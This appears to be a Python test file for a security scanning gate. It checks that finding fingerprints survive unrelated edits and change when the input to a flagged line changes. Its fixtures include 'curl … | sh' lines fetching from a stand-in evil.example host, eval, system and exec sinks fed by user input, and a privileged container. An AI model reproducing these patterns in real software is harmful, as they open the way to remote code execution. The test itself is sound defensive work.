"""Outside Python, too, a decision ends when what flows into its line changes."""

from pathlib import Path

from agents.gates.base import Severity
from agents.gates.run import run_gates
from tests.agents.gates.folders import needs_semgrep, write

# A file with a finding, a piece of its text, and what that becomes.
CHANGES = [
    ("Makefile", "SOURCE = https://good.example/x\nall:\n\tcurl $(SOURCE) | sh\n", "good", "evil"),
    (
        ".github/workflows/a.yml",
        "jobs:\n  a:\n    env:\n      SOURCE: https://good.example/x\n    steps:\n      - run: curl $SOURCE | sh\n",
        "good",
        "evil",
    ),
    ("a.sh", "SOURCE=https://good.example/x\n\ncurl $SOURCE | sh\n", "good", "evil"),
    ("a.rb", "x = 'ls'\ndef f(x)\n  eval(x)\nend\nf('ls')\n", "f('ls')", "f(gets)"),
    ("a.js", "function f(x) {\n  eval(x);\n}\nf('ls');\n", "f('ls')", "f(location.hash)"),
    ("b.js", "const t = {\n  a: 'x',\n};\nfunction f() {\n  eval(t.a);\n}\n", "'x'", "location.hash"),
    ("c.js", "function g() { return 'x'; }\nfunction f() {\n  eval(g());\n}\n", "'x'", "location.hash"),
    ("Dockerfile", "ARG S=https://good.example\nFROM a:1\nRUN curl $S | sh\nUSER x\n", "good", "evil"),
    (
        "pod.yaml",
        "apiVersion: v1\nspec:\n  containers:\n    - image: good\n      securityContext:\n        privileged: true\n",
        "good",
        "evil",
    ),
    ("a.php", "<?php\nfunction f($x) { system($x); }\nf('ls');\n", "f('ls')", "f($_GET['a'])"),
    (
        "a.go",
        'package main\nfunc g() string { return "ls" }\nfunc f() { exec.Command("sh", "-c", g()).Run() }\n',
        '"ls"',
        "os.Args[1]",
    ),
]
UNRELATED = {
    "Makefile": "\nOTHER = 1\n",
    "a.rb": "\nputs 'hello'\n",
    "a.js": "\nconsole.log(1);\n",
    "a.php": "\n$y = 1;\n",
}


def marks(root: Path) -> dict[str, set[str]]:
    report = run_gates(root, tools=["semgrep", "containers", "commands"])
    found = [finding for finding in report.findings if finding.severity >= Severity.MEDIUM]
    return {path: {one.fingerprint for one in found if one.path == path} for path, *_ in CHANGES}


@needs_semgrep
def test_a_decision_ends_with_what_flows_into_its_line_and_outlives_other_changes(tmp_path: Path) -> None:
    write(tmp_path, {path: text for path, text, _, _ in CHANGES})
    before = marks(tmp_path)
    assert all(before.values())
    for path, text in UNRELATED.items():
        with (tmp_path / path).open("a") as file:
            file.write(text)
    assert marks(tmp_path) == before
    for path, text, old, new in CHANGES:
        (tmp_path / path).write_text(text.replace(old, new))
    after = marks(tmp_path)
    assert [path for path in before if not after[path] or before[path] & after[path]] == []
